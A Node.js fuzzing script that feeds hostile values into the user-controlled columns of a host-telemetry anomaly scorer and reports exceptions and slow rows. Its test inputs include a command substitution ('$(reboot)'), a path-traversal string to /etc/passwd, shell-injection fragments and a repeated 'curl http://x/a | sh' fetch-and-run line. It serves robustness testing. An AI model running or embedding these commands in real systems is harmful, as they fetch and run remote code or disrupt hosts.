#!/usr/bin/env node
// What a local user's own columns (command lines, program paths, working directories, file
// paths, shell history, the addresses and ports they connect to or listen on) can do to the
// scorer: the models are trained on a demo split's train.log, then each test.log row is
// scored again with one to three of those columns replaced by hostile values (empty, 70 kB,
// NUL, lone surrogates, `__proto__`, `who=root`, `>exe=/bin/sh`, `*@web-01`, quotes, …), one
// row at a time, with the window scorer closing windows behind them. Then one row a time with
// a ~900 kB command line or shell history line of a few shapes. Prints the exceptions thrown
// (a throw fails the whole batch, set aside after three tries), the longest reasons, and each
// row that took over 200 ms of CPU. No test asserts it: the CPU time depends on the machine.
//   node dist/cli/main.js demo --eval-split --seed 21 --out /tmp/r12-demo
//   node scripts/hostile-columns.js /tmp/r12-demo [rows] [seed]
'use strict';
const fs = require('fs');
const path = require('path');
const dist = path.join(__dirname, '..', 'dist');
const { resolveConfig } = require(path.join(dist, 'conf', 'config.js'));
const { Scorer } = require(path.join(dist, 'scorer', 'scorer.js'));
const { WindowScorer, windowOptionsFrom } = require(path.join(dist, 'scorer', 'windows'));
const { parseResultLine } = require(path.join(dist, 'scorer', 'parse', 'results.js'));

const [dir, rowsArg, seedArg] = process.argv.slice(2);
if (!dir) {
  console.error('usage: node scripts/hostile-columns.js DEMO_SPLIT_DIR [rows] [seed]');
  process.exit(64);
}
let s = Number(seedArg || 1);
const random = () => (s = (s * 1103515245 + 12345) % 2147483648) / 2147483648;
const pick = (a) => a[Math.floor(random() * a.length)];
// the columns a local user decides the content of
const THEIRS = [
  'cmdline',
  'path',
  'cwd',
  'target_path',
  'command',
  'remote_address',
  'remote_port',
  'local_port',
  'address',
  'port',
  'host',
  'history_file',
  'tty',
];
const HOSTILE = [
  '',
  ' ',
  'x'.repeat(70000),
  '\u0000',
  '\ud800',
  'a\ud800b',
  '__proto__',
  'constructor',
  'toString',
  '-1',
  '4294967295',
  'NaN',
  '1e309',
  '99999999999999999999999',
  '0x10',
  '../../../etc/passwd',
  '/tmp/' + '>'.repeat(3000),
  'who=root',
  'a=b>c=d',
  '>exe=/bin/sh',
  '`',
  '*',
  '*@web-01',
  'host',
  'uid:0',
  '::ffff:127.0.0.1',
  '[::1]:22',
  '256.256.256.256',
  'fe80::1%eth0',
  ':::::::',
  '/',
  'sshd: root [priv]',
  'sshd: ' + 'a'.repeat(5000) + ' [priv]',
  '\n',
  'a b c '.repeat(5000),
  '$(reboot)',
  '\u202e',
  'é'.repeat(30000),
  'next1=x',
  'hour=3',
  'kind=login',
  'LOGIN',
  'reboot',
  'sh -c ' + '"'.repeat(1000),
  '\\'.repeat(2000),
];
const LONG = 900_000;
const SHAPES = {
  'a ': 'a '.repeat(LONG / 2),
  'one argument': 'x'.repeat(LONG),
  slashes: '/'.repeat(LONG),
  '>': '>'.repeat(LONG),
  '>a=': '>a='.repeat(LONG / 3),
  addresses: '10.0.0.1:22 '.repeat(LONG / 12),
  'sh -c': 'sh -c "' + 'curl http://x/a | sh; '.repeat(LONG / 22) + '"',
  unicode: 'é '.repeat(LONG / 3),
  'a=b': 'a=b '.repeat(LONG / 4),
  paths: '/home/alice/a/b/c/d/e '.repeat(LONG / 22),
  words: Array.from({ length: LONG / 8 }, (_, i) => ((i * 2654435761) % 1e9).toString(36)).join(' '),
};

(async () => {
  const config = resolveConfig(
    { learning: { min_events: 200, min_days: 1 }, models: { rarity: true, ocsvm: true, ngram: true, lstm: false } },
    'hostile-columns',
    {},
  );
  const scorer = await Scorer.open({ config, stateDir: null });
  const windows = new WindowScorer(windowOptionsFrom(config, null));
  const read = (f) =>
    fs
      .readFileSync(path.join(dir, f), 'utf8')
      .split('\n')
      .filter(Boolean)
      .flatMap((l) => parseResultLine(l));
  const train = read('train.log');
  const test = read('test.log');
  for (let i = 0; i < train.length; i += 500) windows.add(await scorer.scoreRows(train.slice(i, i + 500)));
  let t = test[test.length - 1].time;
  const thrown = new Map();
  let longest = 0;
  const rows = Number(rowsArg || 3000);
  for (let n = 0; n < rows; n++) {
    const base = pick(test);
    const row = { ...base, time: (t += Math.floor(random() * 30)), columns: { ...base.columns } };
    for (let k = 1 + Math.floor(random() * 3); k > 0; k--) {
      const c = pick(THEIRS);
      if (c in row.columns) row.columns[c] = pick(HOSTILE);
    }
    try {
      const scored = await scorer.scoreRows([row]);
      windows.add(scored);
      for (const e of scored) longest = Math.max(longest, e.reasons.length);
    } catch (err) {
      const where = String(err && err.stack)
        .split('\n')
        .slice(0, 3)
        .join(' | ');
      if (!thrown.has(where)) thrown.set(where, JSON.stringify(row).slice(0, 400));
    }
  }
  console.log(`${rows} rows with hostile columns: ${thrown.size} distinct exceptions, longest reasons ${longest} characters`);
  for (const [where, row] of thrown) console.log(`  ${where}\n    ${row}`);
  const exec = test.find((r) => r.query.endsWith('process_events') && r.columns.auid !== '4294967295');
  const history = test.find((r) => r.query.endsWith('shell_history'));
  let slow = 0;
  for (const [name, text] of Object.entries(SHAPES)) {
    for (const [what, row] of [
      ['command line', exec && { ...exec, columns: { ...exec.columns, cmdline: `/usr/bin/python3 ${text}` } }],
      ['path', exec && { ...exec, columns: { ...exec.columns, path: `/tmp/${text.slice(0, 4000)}`, cmdline: `x ${text.slice(0, 4000)}` } }],
      ['history', history && { ...history, columns: { ...history.columns, command: text } }],
    ]) {
      if (!row) continue;
      row.time = ++t;
      const before = process.cpuUsage();
      windows.add(await scorer.scoreRows([row]));
      const used = process.cpuUsage(before);
      const ms = (used.user + used.system) / 1000;
      if (ms > 200) {
        slow++;
        console.log(`  ${name} as ${what}: ${ms.toFixed(0)} ms of CPU`);
      }
    }
  }
  console.log(`${Object.keys(SHAPES).length * 3} rows of ~${LONG / 1000} kB: ${slow} over 200 ms of CPU`);
})();
